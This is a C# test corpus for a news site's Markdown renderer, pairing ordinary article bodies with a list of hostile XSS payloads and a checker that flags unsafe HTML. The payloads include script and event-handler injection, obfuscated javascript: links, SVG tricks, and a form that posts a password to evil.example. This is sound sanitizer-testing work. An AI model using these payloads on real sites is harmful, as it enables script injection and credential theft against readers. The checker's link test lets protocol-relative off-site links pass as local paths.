using AngleSharp.Html.Parser;

namespace NewsPlatform.TestKit;

/// <summary>
/// Article bodies as editors write them, and as an attacker would: every construct the site renders and every
/// trick that must not get through. The editor's preview and the site must turn each into the same HTML, and no
/// payload may survive in it.
/// </summary>
public static class MarkdownCorpus
{
    /// <summary>Bodies that readers should see as formatted text.</summary>
    public static readonly IReadOnlyList<(string Name, string Markdown)> Ordinary =
    [
        ("headings", "# Top of the body\n\ntext\n\n## First North Korean Soldiers Captured\n\n### Deeper\n\n#### Deepest"),
        ("paragraphs and line breaks", "The council met on Monday.  \nIt ended late.\n\nA second paragraph\nwrapped in the source."),
        ("emphasis", "An **important** line, an *emphasised* one, ~~struck~~ words, __bold__ and _italic_, H~2~O and 2^10^."),
        ("bullet list", "- Kursk\n- Belgorod\n  - nested village\n- Bryansk"),
        ("numbered list from 3", "3. third\n4. fourth\n5. fifth"),
        ("links", "Read [the report](https://example.com/report \"The report\") and <https://example.org/auto>, or write to <mailto:desk@example.com>, see https://example.net/bare."),
        ("reference link", "See [the ministry][m].\n\n[m]: https://example.gov/statement"),
        ("site paths", "The [archive](/news/archive) and the [section](#top)."),
        ("image", "![Soldiers in the Kursk region](https://cdn.example.com/kursk.jpg \"Kursk\")"),
        ("inline code and fenced code", "Run `dotnet test` first.\n\n```csharp\nvar x = \"<b>not bold</b>\";\n```\n\n    indented code <i>too</i>"),
        ("blockquote", "> “Russian and North Korean forces often execute their own wounded”\n>\n> — a Ukrainian officer\n\nAfter the quote."),
        ("nested blockquote", "> outer\n>\n> > inner with **bold**"),
        ("table", "| Town | Casualties |\n|:-----|-----------:|\n| Kursk | 12 |\n| Sudzha | *unknown* |"),
        ("rule", "Above\n\n---\n\nBelow\n\n***"),
        ("entities and ampersands", "Tom &amp; Jerry & friends &copy; 2025 &#169; &lt;b&gt;not bold&lt;/b&gt; 5 < 6 > 4"),
        ("allowed raw HTML", "Words <b>bold</b>, <i>italic</i>, <abbr title=\"North Atlantic Treaty Organization\">NATO</abbr>, <q cite=\"https://example.com/q\">quoted</q>, <sub>low</sub>."),
        ("escapes", "\\*not emphasis\\* and \\[not a link\\](https://example.com) and \\<b\\>"),
        ("unicode", "Søren Kierkegaard’s “København” — 東京 — emoji 🎉 and zero\u200Bwidth."),
    ];

    /// <summary>Bodies written to run script, load something, or dress up as the page; none of it may get through.</summary>
    public static readonly IReadOnlyList<(string Name, string Markdown)> Hostile =
    [
        ("script tag", "<script>alert('x')</script>Hello"),
        ("script in a paragraph", "Safe words.\n\n<script src=\"https://evil.example/x.js\"></script>\n\nMore words."),
        ("onerror image", "<img src=\"x.png\" onerror=\"alert('x')\">"),
        ("unquoted onerror", "<img src=x onerror=alert(1)>"),
        ("markdown javascript link", "[click me](javascript:alert('x'))"),
        ("mixed case javascript link", "<a href=\"JaVaScRiPt:alert(1)\">x</a>"),
        ("javascript with tab", "[tab](java\tscript:alert(1)) <a href=\"java&#x09;script:alert(1)\">entity tab</a>"),
        ("entity encoded javascript", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">entities</a> [md](&#106;avascript:alert(1))"),
        ("javascript autolink", "<javascript:alert(1)>"),
        ("vbscript link", "[vb](vbscript:msgbox(1))"),
        ("data link", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
        ("data image", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
        ("javascript image", "![img](javascript:alert(1))"),
        ("iframe", "<iframe src=\"https://evil.example\"></iframe>"),
        ("iframe srcdoc", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>"),
        ("object and embed", "<object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/x.swf\">"),
        ("svg onload", "<svg onload=alert(1)>"),
        ("svg script", "<svg><script>alert(1)</script></svg>"),
        ("svg animate", "<svg><a><animate attributeName=\"href\" values=\"javascript:alert(1)\"/><text y=\"20\">x</text></a></svg>"),
        ("math xlink", "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>"),
        ("style attribute", "<p style=\"position:fixed;top:0;background:url(javascript:alert(1))\">cover</p>"),
        ("style element", "<style>*{background:url(javascript:alert(1))}</style>"),
        ("class dressing up as the editor", "<div class=\"notice-conflict\" id=\"save\">Someone else saved</div>"),
        ("form asking for a password", "<form action=\"https://evil.example\"><input name=\"password\"><button>Sign in</button></form>"),
        ("details ontoggle", "<details open ontoggle=alert(1)>"),
        ("body onload", "<body onload=alert(1)>"),
        ("meta refresh", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"),
        ("base href", "<base href=\"javascript:alert(1)//\">"),
        ("html comment", "<!--<script>alert(1)</script>-->"),
        ("cdata", "]]><script>alert(1)</script><![CDATA["),
        ("closing script early", "</script><script>alert(1)</script>"),
        ("backtick attribute", "<img src=\"x` `<script>alert(1)</script>\"` `>"),
        ("nested brackets", "[[click](javascript:alert(1))](https://example.com) and [a [b](javascript:alert(2)) c](https://example.org)"),
        ("link title breakout", "[x](https://example.com \"title\\\" onmouseover=\\\"alert(1)\")"),
        ("emphasis around html", "**<img src=x onerror=alert(1)>** _<svg/onload=alert(1)>_"),
        ("html inside a table", "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |"),
        ("html inside a list", "- <script>alert(1)</script>\n- <a href=\"javascript:alert(1)\">x</a>"),
        ("code that looks like script", "`<script>alert(1)</script>`\n\n```\n<img src=x onerror=alert(1)>\n```"),
        ("protocol-relative link", "<a href=\"//evil.example/x\">x</a>"),
        ("template injection", "{{constructor.constructor('alert(1)')()}}"),
    ];

    public static IEnumerable<(string Name, string Markdown)> All => Ordinary.Concat(Hostile);

    // What an article body may contain once rendered, read as a browser would parse it: text, formatting and links.
    static readonly HashSet<string> BodyElements =
    [
        "html", "head", "body", "p", "br", "hr", "h2", "h3", "h4", "h5", "h6", "blockquote", "ul", "ol", "li", "em", "strong", "b", "i",
        "a", "code", "pre", "del", "s", "sub", "sup", "table", "thead", "tbody", "tr", "th", "td", "q", "cite", "abbr",
    ];

    static readonly HashSet<string> BodyAttributes = ["href", "title", "rel", "start", "cite"];

    /// <summary>
    /// Everything in rendered body HTML that is not plain formatting: any other element (script, iframe, svg, img,
    /// style, form…), any other attribute (on*, style, class, id, src…), and any link that is not to the web, a mail
    /// address or this site. Empty for a safe body.
    /// </summary>
    public static IReadOnlyList<string> Survivors(string html)
    {
        var document = new HtmlParser().ParseDocument("<body>" + html + "</body>");
        var found = new List<string>();
        foreach (var element in document.All)
        {
            if (!BodyElements.Contains(element.LocalName)) found.Add($"<{element.LocalName}>: {element.OuterHtml}");
            foreach (var attribute in element.Attributes)
            {
                if (!BodyAttributes.Contains(attribute.Name)) found.Add($"{attribute.Name} on <{element.LocalName}>");
                else if (attribute.Name is "href" or "cite" && !IsWebLink(attribute.Value))
                    found.Add($"{attribute.Name}=\"{attribute.Value}\" on <{element.LocalName}>");
            }
        }
        return found;
    }

    static bool IsWebLink(string url)
    {
        var compact = new string(url.Where(c => !char.IsWhiteSpace(c) && !char.IsControl(c)).ToArray());
        if (compact.StartsWith('/') || compact.StartsWith('#')) return true;
        var colon = compact.IndexOf(':');
        var slash = compact.IndexOfAny(['/', '?', '#']);
        if (colon < 0 || (slash >= 0 && slash < colon)) return true; // relative: no scheme at all
        return compact[..colon].ToLowerInvariant() is "http" or "https" or "mailto";
    }
}
